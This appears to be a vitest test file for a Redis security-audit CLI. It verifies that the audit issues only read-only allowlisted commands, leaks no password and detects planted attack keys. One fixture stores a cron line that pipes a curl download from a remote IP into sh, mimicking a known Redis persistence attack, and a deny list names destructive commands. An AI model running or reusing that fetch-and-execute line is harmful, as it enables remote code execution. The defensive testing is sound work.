/**
 * The non-destructive promise, watched from the server: a full audit runs while a second, raw
 * connection holds MONITOR. MONITOR shows every non-admin command with its arguments, but Redis
 * never feeds admin-flagged commands (CONFIG, ACL, CLIENT, MODULE ...) to monitors, so INFO
 * commandstats before and after (from a third connection) covers those: every command the server
 * counted must be on the read-only allowlist. The password never shows up in our output, and the
 * data is unchanged afterwards.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRedis, type RedisServer } from '../helpers/redis-server.js';
import { rawConnect, type RawClient } from '../helpers/raw-client.js';
import { ALLOWLIST, isAllowed } from '../../src/resp/index.js';
import { SUSPICIOUS_KEYS } from '../../src/facts/probes.js';
import { cli } from '../helpers/run-cli.js';
import { commandCounts, monitorArgs } from '../helpers/server-watch.js';

const PW = 'monitor-admin-pw-55c1';

describe('audit under MONITOR', () => {
  let server: RedisServer;
  let monitor: RawClient;
  let received = '';
  const lines: string[] = [];
  beforeAll(async () => {
    server = await startRedis({
      config: ['user default off', `user admin on >${PW} ~* &* +@all`, 'user app on >app-pw-77 ~app:* resetchannels -@all +@read +@write +keys +flushall +eval'].join('\n'),
    });
    const setup = await rawConnect(server.port);
    await setup.call('AUTH', 'admin', PW);
    await setup.call('SET', 'app:canary', 'still-here');
    setup.close();
    monitor = await rawConnect(server.port);
    await monitor.call('AUTH', 'admin', PW);
    expect(await monitor.call('MONITOR')).toBe('OK');
    monitor.socket.on('data', (d: Buffer) => (received += d.toString()));
  });
  afterAll(async () => {
    monitor?.close();
    await server?.stop();
  });

  it('only allowlisted, read-only commands arrive; no secret in our output; data untouched', async () => {
    const stats = await rawConnect(server.port);
    await stats.call('AUTH', 'admin', PW);
    const before = commandCounts(String(await stats.call('INFO', 'commandstats')));
    const r = await cli(['audit', `redis://127.0.0.1:${server.port}`, '--user', 'admin', '--format', 'json', '--fail-on', 'critical'], { REDSEC_PASSWORD: PW });
    expect([0, 1]).toContain(r.code);
    await new Promise((res) => setTimeout(res, 200));
    lines.push(...received.split('\r\n').filter((l) => /^\+\d+\.\d+ \[/.test(l)));
    const after = commandCounts(String(await stats.call('INFO', 'commandstats')));
    stats.close();
    const ran = [...after].filter(([name, n]) => n > (before.get(name) ?? 0)).map(([name]) => name.toUpperCase().replace('|', ' '));
    const allowed = new Set(ALLOWLIST);
    expect(ran.filter((name) => !allowed.has(name))).toEqual([]);
    // The audit really did run its admin reads and dry runs (the server counted them).
    expect(ran).toEqual(expect.arrayContaining(['CONFIG GET', 'ACL LIST', 'ACL DRYRUN', 'ACL LOG', 'CLIENT LIST', 'MODULE LIST', 'INFO', 'COMMAND LIST', 'HELLO']));
    const dryruns = (after.get('acl|dryrun') ?? 0) - (before.get('acl|dryrun') ?? 0);
    expect(dryruns).toBeGreaterThanOrEqual(3 * 18);

    const commands = lines.map(monitorArgs).filter((a) => a.length > 0);
    expect(commands.map((a) => a[0])).toEqual(expect.arrayContaining(['AUTH', 'INFO', 'COMMAND', 'HELLO']));
    const notAllowed = commands.filter((a) => !isAllowed(a));
    expect(notAllowed).toEqual([]);
    const writes = new Set(['SET', 'DEL', 'FLUSHALL', 'FLUSHDB', 'KEYS', 'EVAL', 'MONITOR', 'DEBUG', 'SHUTDOWN', 'REPLICAOF', 'SLAVEOF', 'MODULE', 'SCRIPT', 'SAVE', 'BGSAVE']);
    expect(commands.filter((a) => writes.has((a[0] ?? '').toUpperCase()) || (a[0]?.toUpperCase() === 'CONFIG' && a[1]?.toUpperCase() !== 'GET'))).toEqual([]);
    // MONITOR redacts AUTH arguments itself; our own output must not carry the password either.
    expect(lines.join('\n')).not.toContain(PW);
    expect(r.stdout + r.stderr).not.toContain(PW);
    const check = await rawConnect(server.port);
    await check.call('AUTH', 'admin', PW);
    expect(await check.call('GET', 'app:canary')).toBe('still-here');
    expect(await check.call('DBSIZE')).toBe(1);
    check.close();
  });

  it('with --probe-keys the only key reads are one EXISTS per known attack key, and a planted one is found', async () => {
    const setup = await rawConnect(server.port);
    await setup.call('AUTH', 'admin', PW);
    await setup.call('SET', 'backup2', '\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x | sh\n\n');
    setup.close();
    const from = received.length;
    const r = await cli(['audit', `redis://127.0.0.1:${server.port}`, '--user', 'admin', '--probe-keys', '--format', 'json', '--fail-on', 'critical'], { REDSEC_PASSWORD: PW });
    expect(r.code).toBe(1);
    await new Promise((res) => setTimeout(res, 200));
    const commands = received
      .slice(from)
      .split('\r\n')
      .filter((l) => /^\+\d+\.\d+ \[/.test(l))
      .map(monitorArgs)
      .filter((a) => a.length > 0);
    const keyReads = commands.filter((a) => !isAllowed(a));
    expect(keyReads).toEqual(SUSPICIOUS_KEYS.map((k) => ['EXISTS', k]));
    const report = JSON.parse(r.stdout) as { findings: { id: string; status: string; evidence: string; severity: string }[] };
    expect(report.findings.find((f) => f.id === 'IOC-CRON-KEYS')).toMatchObject({ status: 'fail', severity: 'critical', evidence: 'suspicious keys present: backup2' });
    // The payload itself is never read, let alone printed.
    expect(r.stdout).not.toContain('curl');
  });
});
